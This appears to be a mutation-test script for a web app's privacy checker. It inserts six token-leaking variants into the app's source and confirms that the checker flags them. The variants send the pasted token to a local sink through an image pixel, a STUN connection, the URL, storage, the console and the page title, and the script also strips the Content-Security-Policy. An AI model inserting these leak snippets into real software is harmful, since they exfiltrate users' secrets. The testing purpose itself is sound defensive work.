/**
 * Shows that the privacy prover can fail: six variants of the source that leak what is pasted, each built and put before
 * it; and the pixel without the page's policy, so that the sink is seen to count what reaches it.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildApp } from '../build-app.mjs';
import { figuresOf, runProof } from './run-proof.mjs';
import { serve } from './serve.mjs';

const SINK = 'localhost:4891';
const PORT = 4881;
/** Where a pasted token arrives. */
const PLACE = { file: '/src/state/token-actions.ts', before: '      void inspect();\n    },\n    editContext' };

const MUTANTS = {
  'logs the token': 'console.log(get().token.text);',
  'puts the token into the link': 'location.hash = `#/token?t=${get().token.text}`;',
  'fetches a pixel': `new Image().src = \`http://${SINK}/pixel?\${get().token.text.slice(0, 40)}\`;`,
  'stores the token': "sessionStorage.setItem('last', get().token.text);",
  'writes the token into the title': 'document.title = get().token.text;',
  'opens a STUN connection': `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:4891' }] });
    peer.createDataChannel('x');
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
};
const TRUST = ['foreign', 'late', 'sink', 'leaks', 'violations', 'clipboard', 'peers'];
const FIRST_FEATURE = 'tokens of every kind';

function mutate(code) {
  let done = false;
  return {
    name: 'mutant',
    enforce: 'pre',
    applyToEnvironment: ({ name }) => name === 'client',
    transform(source, id) {
      if (!id.endsWith(PLACE.file)) return undefined;
      if (!source.includes(PLACE.before)) throw new Error(`${PLACE.file} has changed: the mutants have no place in it`);
      done = true;
      return source.replace(PLACE.before, `${code}\n${PLACE.before}`);
    },
    buildEnd() {
      if (!done) throw new Error(`${PLACE.file} was not built`);
    },
  };
}

/** No build goes without a policy, so it is taken out of what was built. */
function removePolicy(outDir) {
  const document = join(outDir, 'index.html');
  const html = readFileSync(document, 'utf8');
  writeFileSync(document, html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
}

/** What the prover finds in a variant of the app. */
async function tryVariant(context, number, code, { withPolicy = true } = {}) {
  const outDir = join(context.folder, `mutant-${number}`);
  await buildApp({ plugins: [mutate(code)], build: { outDir, emptyOutDir: true } });
  if (!withPolicy) removePolicy(outDir);
  const server = await serve(outDir, PORT, { withHeaders: withPolicy });
  try {
    const { address } = server;
    const figures = figuresOf(
      await runProof({ ...context, address }, 'privacy.spec.ts', { grep: FIRST_FEATURE, quiet: true }),
    );
    if (figures.sink === undefined) throw new Error('a variant was not watched to its end');
    return figures;
  } finally {
    await server.close();
  }
}

export async function provePrivacyMutants(context) {
  let red = 0;
  for (const [index, [name, code]] of Object.entries(MUTANTS).entries()) {
    const figures = await tryVariant(context, index, code);
    const found = TRUST.filter((id) => figures[id] > 0);
    console.log(`${found.length > 0 ? 'found ' : 'MISSED'} ${name}: ${found.join(', ')}`);
    if (found.length > 0) red += 1;
  }
  const open = await tryVariant(context, 'open', MUTANTS['fetches a pixel'], { withPolicy: false });
  return { red: { value: red, note: `of ${Object.keys(MUTANTS).length}` }, 'open-policy': open.sink };
}
